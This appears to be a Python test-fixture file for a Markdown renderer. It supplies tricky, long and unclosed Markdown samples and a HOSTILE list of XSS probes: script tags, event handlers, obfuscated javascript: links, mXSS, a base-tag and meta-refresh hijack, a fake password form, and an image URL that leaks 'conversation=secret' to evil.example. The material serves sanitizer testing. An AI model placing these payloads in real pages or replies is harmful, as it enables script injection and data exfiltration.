"""Texts that are hard to render: cut into pieces, never closed, very long, hostile."""

ADVERSARIAL = """Intro text with `code` and **bold
over two lines**

1. one

   para in item
2. two
   - deep

     more

10. ten

    ```py
    x = 1


    y = 2
    ```

11. eleven

Text
====

* a
* b

+ c

- d

- e

1. f

2. g

> q
> > qq

lazy

> after

    indented code

    more code

```js
let a = 1


let b = "```"
```

~~~~text
~~~
still inside
~~~~

| a | b |
|--:|:--|
| 1 | 2 |
| `|` | 3 |

- [ ] task
- [x] done

***

Sum: $$a^2 + b^2 = c^2$$ and \\(x_1\\) cost $5 and $6.

$$
\\int_0^1 x\\,dx
$$

\\[ \\frac{a}{b} \\]

### Deep heading

# Top heading

###### Sixth

Line one
line two with trailing spaces  \nline three\\
line four

<div onclick="x()">

**inside** </div>

<script>
alert(1)

</script>

&amp; &lt;b&gt; a < b > c

![alt](https://evil.example/x.png) [text](https://example.com "title") <https://auto.example> https://bare.example/x?y=1

[later][1] and [^note] and [x]

[1]: https://example.com/later

Term
: no definition list

The end"""
LONG = "\n\n".join(
    part
    for number in range(24)
    for part in (
        f"## Part {number}",
        "Plain words with *emphasis*, `code` and a [link](https://example.com). " * 3,
        f"- first {number}\n- second\n  - nested\n\n  paragraph in an item\n- third",
        f"```python\ndef f{number}(x):\n\n    return x + {number}\n```",
        "| a | b |\n|---|---|\n| 1 | 2 |",
    )
)
UNCLOSED = [
    "Before\n\n```python\nx = 1\n\nprint(x)",
    "Before\n\n~~~\nopen",
    "- item\n\n  ```\n  inside",
    "> ```\n> quoted",
    "**bold that never ends",
    "`code that never ends",
    "[link](https://exa",
    "| a | b |\n|---",
    "$$ x + y",
    "\\( x",
    "1. one\n\n2",
    "- one\n\n-",
    "text\n\n***",
    "a\r\nb\r\n\r\n```\r\nc\r\n\r\nd\r\n```\r\n\r\ne\r",
    "see [note]\n\n> [note]: A note that is no definition\n\nThe end",
    "> > [ref]: https://example.com\n\n> [ref]\n\nOne [ref] more\n\n[constructor]\n\n[constructor]: https://example.com/c",
    "- text\n  > 2. quoted\n  lazily\n\nThe end",
]
HOSTILE = [
    "<script>window.touched=1</script>",
    "<img src=x onerror=window.touched=1>",
    "<svg><script>window.touched=1</script></svg>",
    "<svg/onload=window.touched=1>",
    "<iframe srcdoc='<script>parent.touched=1</script>'></iframe>",
    "<a href='javascript:window.touched=1'>x</a>",
    "[x](javascript:window.touched=1)",
    "[x](JaVaScRiPt:window.touched=1)",
    "[x](java\nscript:window.touched=1)",
    "[x](&#106;avascript:window.touched=1)",
    "[x](data:text/html,<script>window.touched=1</script>)",
    "[x](vbscript:x)",
    "[x](//evil.example/x)",
    "[x](/account/logout/)",
    "[x]: javascript:window.touched=1\n\n[x]",
    "<javascript:window.touched=1>",
    "![x](javascript:window.touched=1)",
    "![x](https://evil.example/track.png?conversation=secret)",
    "![x](//evil.example/x.png)",
    "![x](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)",
    '![x" onerror="window.touched=1](https://evil.example/x.png)',
    '[x](https://example.com "a\\" onmouseover=\\"window.touched=1")',
    '```"><img src=x onerror=window.touched=1>\ncode\n```',
    "```html onload=window.touched=1\n<script>window.touched=1</script>\n```",
    "`<img src=x onerror=window.touched=1>`",
    "<style>*{display:none}</style>",
    "<form action=https://evil.example><input name=password></form>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=window.touched=1>",
    "<details open ontoggle=window.touched=1>",
    "$$\\href{javascript:window.touched=1}{x}$$",
    "$$\\htmlClass{x}{y} \\includegraphics{https://evil.example/x.png}$$",
    "\\( <img src=x onerror=window.touched=1> \\)",
    "<!-- --><script>window.touched=1</script>",
    "<![CDATA[<script>window.touched=1</script>]]>",
    "| <img src=x onerror=window.touched=1> |\n|---|\n| [x](javascript:window.touched=1) |",
    "<base href=https://evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<a id=chat-setup name=x>clobber</a>",
]
